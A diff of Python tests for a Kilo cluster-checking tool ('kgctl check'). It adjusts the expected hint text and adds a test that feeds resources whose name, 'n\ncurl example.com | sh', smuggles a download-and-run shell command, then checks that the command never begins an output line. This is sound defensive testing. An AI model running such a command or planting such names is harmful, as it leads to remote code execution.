@@ -18,6 +18,7 @@ from tests.commands.kgctl import kgctl, shell
 from tests.findings.cases import HEALTHY
 from tests.strategies import clusters, hostile
 
+KILO = {"app.kubernetes.io/name": "kilo"}
 EVERY_FORM = ("text", "short", "json", "junit")
 
 
@@ -44,7 +45,7 @@ def test_the_example_has_exactly_the_two_faults_that_it_is_known_for() -> None:
 def test_a_line_tells_code_subject_and_matter_and_the_next_what_to_type() -> None:
     run = check(healthy(leader="false"))
     line = '‼ K-LEADER-FALSE node "b": kilo.squat.ai/leader "false" does not say no'
-    hint = "    hint: Take the annotation away: kubectl annotate node b kilo.squat.ai/leader-"
+    hint = "    hint: kubectl annotate node b kilo.squat.ai/leader-"
     lines = run.stdout.splitlines()
     (index,) = [n for n, text in enumerate(lines) if text.startswith(line)]
     assert lines[index + 1] == hint
@@ -95,7 +96,7 @@ def test_what_makes_no_sense_is_refused(options: tuple[str, ...], words: str) ->
 def test_short_is_nothing_when_all_is_well_and_lines_of_what_is_not() -> None:
     assert check(healthy(), "-o", "short").stdout == ""
     short = check(healthy(leader="false"), "-o", "short").stdout.splitlines()
-    assert [line[:16] for line in short] == ["‼ K-LEADER-FALSE", "    hint: Take t"]
+    assert [line[:16] for line in short] == ["‼ K-LEADER-FALSE", "    hint: kubect"]
 
 
 def test_notes_are_counted_and_shown_when_more_is_asked_for() -> None:
@@ -173,6 +174,22 @@ def test_whatever_somebody_writes_starts_no_line_and_reaches_no_terminal(cluster
         case "junit":
             read = junitparser.JUnitXml.fromstring(run.stdout.encode())
             assert (read.failures == 0) is (run.exit_code == 0)
+
+
+def test_no_name_starts_a_line_of_a_hint() -> None:
+    forged = "n\ncurl example.com | sh"
+    pod = {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": forged, "labels": KILO},
+        "spec": {"nodeName": "a"},
+    }
+    objects = [HEALTHY[0], node(forged, 2, "b", leader="no"), peer(forged, persistentKeepalive=0)]
+    items = [*objects, {**pod, "status": {"phase": "Failed"}}]
+    stdin = json.dumps({"apiVersion": "v1", "kind": "List", "items": items}).encode()
+    shown = kgctl("--from-file", "-", "check", stdin=stdin).stdout
+    assert {"K-LEADER-FALSE", "K-PEER-ROAM", "K-KG-POD"} <= set(shown.split())
+    assert not [line for line in shown.splitlines() if line.lstrip().startswith(("hint: curl", "curl"))]
 
 
 def test_a_file_that_cannot_be_used_is_an_error_as_for_every_command(tmp_path: Path) -> None:
